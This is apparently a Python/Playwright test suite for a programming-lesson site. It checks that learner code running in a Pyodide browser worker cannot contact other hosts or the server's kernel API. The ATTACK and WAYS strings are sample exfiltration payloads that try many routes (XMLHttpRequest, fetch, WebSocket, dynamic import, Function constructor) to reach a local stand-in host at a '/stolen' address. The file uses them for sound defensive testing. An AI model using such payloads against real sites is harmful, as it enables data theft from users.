"""What code in the page can reach, no matter who wrote it: no kernel, and no other host."""

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import LOOKS, QuietServer, new_context, small_site
from tests.firefox import Window, firefox
from tests.live import Live, live

PAGE = "mission/the-model/"
SECTION = "mission/architecture.py:count"
SHOWN = f"""# Preview

```lesson-code show="{SECTION}" run="try_count"
```
"""
CELL = f"document.querySelector('figure[data-run-of=\"{SECTION}\"] run-cell')"
# What a stranger's record may hold. Each way out tells what it read.
ATTACK = """
ADDRESSES = {addresses}
READ = "const asked = new XMLHttpRequest(); asked.open('GET', '%s', false); asked.send()"

def package(address):
    import pyodide_js
    pyodide_js.loadPackage(address + "?a.whl")

def javascript(address):
    from js import XMLHttpRequest
    asked = XMLHttpRequest.new()
    asked.open("GET", address, False)
    asked.send()
    return asked.responseText

def evaluated(address):
    from pyodide.code import run_js
    return run_js((READ + "; asked.responseText") % address)

def made(address):
    import pyodide_js
    return pyodide_js.constructor.constructor((READ + "; return asked.responseText") % address)()

def opened(address):
    from pyodide.http import open_url
    return open_url(address).read()

def fetched(address):
    import urllib.request
    return urllib.request.urlopen(address, timeout=5).read()

for way in (package, javascript, evaluated, made, opened, fetched):
    for address in ADDRESSES:
        try:
            text = way(address)
        except BaseException:
            continue
        if text is not None:
            print(way.__name__, "read", text)
print("tried")
"""
# The same where an attacker has all of the worker's JavaScript, whatever Python is handed.
WAYS = """async ([addresses, port]) => {
  const came = (target, good) => new Promise((resolve) => {
    target[good] = () => resolve("came");
    target.onerror = () => resolve("refused");
  });
  const ways = {
    socket: () => came(new WebSocket(`ws://127.0.0.1:${port}/socket`), "onopen"),
    events: () => came(new EventSource(`http://127.0.0.1:${port}/events`), "onopen"),
    module: () => import(`http://127.0.0.1:${port}/module.js`).then(() => "came"),
    nested: () => (typeof Worker === "undefined" ? "refused" : "came"),
  };
  for (const address of addresses) ways[address] = () => fetch(address).then(() => "came");
  const tried = Object.entries(ways).map(async ([name, way]) => {
    try {
      return [name, await way()];
    } catch {
      return [name, "refused"];
    }
  });
  return (await Promise.all(tried)).filter(([, end]) => end !== "refused");
}"""
IN_WORKER = """(expression) => new Promise((resolve) => {
  const text = `${expression}.then((found) => postMessage(found))`;
  const blob = new Blob([text], { type: "text/javascript" });
  const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
  worker.onmessage = ({ data }) => resolve(data);
  worker.onerror = () => resolve("no worker");
})"""
TAKEN_IN = """async () => {
  const rest = () => new Promise((next) => setTimeout(next, 20));
  while (!localStorage.getItem("gpu-training.edits.v1")) await rest();
}"""
PRESS_TWICE = f"""(async () => {{
  const rest = () => new Promise((next) => setTimeout(next, 20));
  const until = async (is) => {{ while (!is()) await rest(); }};
  await until(() => {CELL}?.querySelector("button"));
  {CELL}.querySelector("button").click();
  await until(() => ["kept", "finished"].includes({CELL}.dataset.state));
  {CELL}.querySelector("button").click();
  await until(() => ["finished", "failed", "broken"].includes({CELL}.dataset.state));
  return {CELL}.querySelector("[role=log]").textContent;
}})()"""


class Listener(QuietServer):
    """Another host: it answers every page's requests, and writes them down."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), Answering)


class Answering(BaseHTTPRequestHandler):
    """Lets any origin read."""

    def do_GET(self) -> None:
        """Answer with a script that does nothing."""
        assert isinstance(self.server, Listener)
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Cross-Origin-Resource-Policy", "cross-origin")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"0")

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


@pytest.fixture
def listener() -> Iterator[Listener]:
    """The other host, on a port of its own."""
    with Listener() as listener:
        threading.Thread(target=listener.serve_forever, daemon=True).start()
        yield listener
        listener.shutdown()


@pytest.fixture(scope="module")
def machine(built_site: Path) -> Iterator[Live]:
    """The live server of the real site."""
    with live(built_site) as running:
        yield running


def record(lines: str) -> str:
    """A learner's record with a change of one snippet, as the browser keeps it."""
    return json.dumps({SECTION: {"text": "return 0", "lines": lines, "at": "2026-11-01T10:00:00Z"}})


def aims(listener: Listener, *more: str) -> list[str]:
    """The addresses that an attack wants to read."""
    return [f"http://127.0.0.1:{listener.server_port}/stolen", *more]


def tries(addresses: list[str], port: int) -> str:
    """The expression that tries every way, and gives those that led somewhere."""
    return f"({WAYS})({json.dumps([addresses, port])})"


Open = Callable[[str], None]
Evaluate = Callable[[str], Any]


def attacked(open_page: Open, evaluate: Evaluate, root: str, lines: str) -> str:
    """What the attack prints, as a kept change that the reader runs by a second press."""
    open_page(root + PAGE)
    evaluate(f"localStorage.setItem('gpu-training.edits.v1', {json.dumps(record(lines))})")
    open_page(root + PAGE)
    printed: str = evaluate(PRESS_TWICE)
    evaluate("localStorage.clear()")
    return printed


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A window whose console may hold what the policy says."""
    with new_context(browser, LOOKS[0]) as context:
        yield context.new_page()


def test_an_imported_change_is_shown_first_and_runs_when_pressed_again(
    page: Page, site: str
) -> None:
    """No press for the lesson's code runs another; a double click is one press."""
    kept = {"gpu-training.edits.v1": json.loads(record("print('ran')"))}
    text = json.dumps({"format": "gpu-training.record", "version": 1, "kept": kept})
    page.goto(site + "gpu-training/16-summary/")
    page.locator("learner-record input[type=file]").set_input_files(
        {"name": "record.json", "mimeType": "application/json", "buffer": text.encode()}
    )
    page.evaluate(TAKEN_IN)
    page.goto(site + PAGE)
    cell = page.locator(f'figure[data-run-of="{SECTION}"] run-cell')

    cell.get_by_role("button").dblclick()

    expect(cell).to_have_attribute("data-state", "kept")
    expect(cell.get_by_label("What runs after it")).to_have_value("print('ran')")
    expect(cell.get_by_role("status")).to_contain_text("1 November 2026")
    assert [] == page.workers
    cell.get_by_role("button", name="Run").click()
    expect(cell.get_by_role("log")).to_have_text("ran\n", timeout=60_000)
    cell.get_by_role("button", name="Reset").click()
    page.reload()
    cell.get_by_role("button").click()
    expect(cell).to_have_attribute("data-state", "finished", timeout=60_000)


def test_on_a_plain_server_nothing_leaves(page: Page, site: str, listener: Listener) -> None:
    """No header is sent there: the page's own policy holds in its worker."""
    addresses = aims(listener)

    printed = attacked(page.goto, page.evaluate, site, ATTACK.format(addresses=addresses))

    assert "tried\n" == printed
    assert [] == page.workers[0].evaluate(tries(addresses, listener.server_port))
    assert [] == listener.asked


def test_in_a_preview_nothing_leaves_either(page: Page, tmp_path: Path, listener: Listener) -> None:
    """`mkdocs serve` shows pages that nothing has gone over."""
    pages = {"index.md": "# Home\n", f"{PAGE.strip('/')}.md": SHOWN}
    addresses = aims(listener)

    with small_site(tmp_path, pages, "preview", finished=False) as address:
        printed = attacked(page.goto, page.evaluate, address, ATTACK.format(addresses=addresses))
        found = page.workers[0].evaluate(tries(addresses, listener.server_port))

    assert ("tried\n", []) == (printed, found)
    assert [] == listener.asked


def test_on_the_live_server_no_kernel_answers(
    page: Page, machine: Live, listener: Listener
) -> None:
    """The page may ask for kernels, and code in its worker may not."""
    kernels = f"{machine.origin}/api/kernels"
    addresses = aims(listener, kernels, f"{machine.origin}/login?next=/api/kernels")
    page.goto(machine.opened)

    printed = attacked(
        page.goto, page.evaluate, f"{machine.origin}/lesson/", ATTACK.format(addresses=addresses)
    )

    assert "tried\n" == printed
    assert [] == page.workers[0].evaluate(tries(addresses, machine.port))
    assert [] == page.workers[0].evaluate(tries(addresses, listener.server_port))
    assert [] == listener.asked
    assert page.evaluate(f"fetch('{kernels}').then((answer) => answer.ok)")


@pytest.fixture(scope="module")
def window(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Window]:
    """One Firefox for both."""
    with firefox(tmp_path_factory.mktemp("firefox")) as window:
        yield window


@pytest.mark.firefox
def test_in_firefox_nothing_leaves_a_plain_server(
    window: Window, server: QuietServer, built_site: Path, listener: Listener
) -> None:
    """As in Chromium."""
    root = f"http://127.0.0.1:{server.server_port}/"
    addresses = aims(listener)

    printed = attacked(window.open, window.evaluate, root, ATTACK.format(addresses=addresses))

    assert "tried\n" == printed
    # Its protocol evaluates nothing in a worker, so one is made as the page makes Python's.
    found = window.evaluate(f"({IN_WORKER})({json.dumps(tries(addresses, listener.server_port))})")
    assert ["nested"] == [name for name, _ in found]  # which Python's worker loses
    assert [] == listener.asked


@pytest.mark.firefox
def test_in_firefox_no_kernel_answers_on_the_live_server(
    window: Window, machine: Live, listener: Listener
) -> None:
    """As in Chromium."""
    kernels = f"{machine.origin}/api/kernels"
    addresses = aims(listener, kernels, f"{machine.origin}/login?next=/api/kernels")
    window.open(machine.opened)

    printed = attacked(
        window.open,
        window.evaluate,
        f"{machine.origin}/lesson/",
        ATTACK.format(addresses=addresses),
    )

    assert "tried\n" == printed
    assert [] == listener.asked
    assert window.evaluate(f"fetch('{kernels}').then((answer) => answer.ok)")
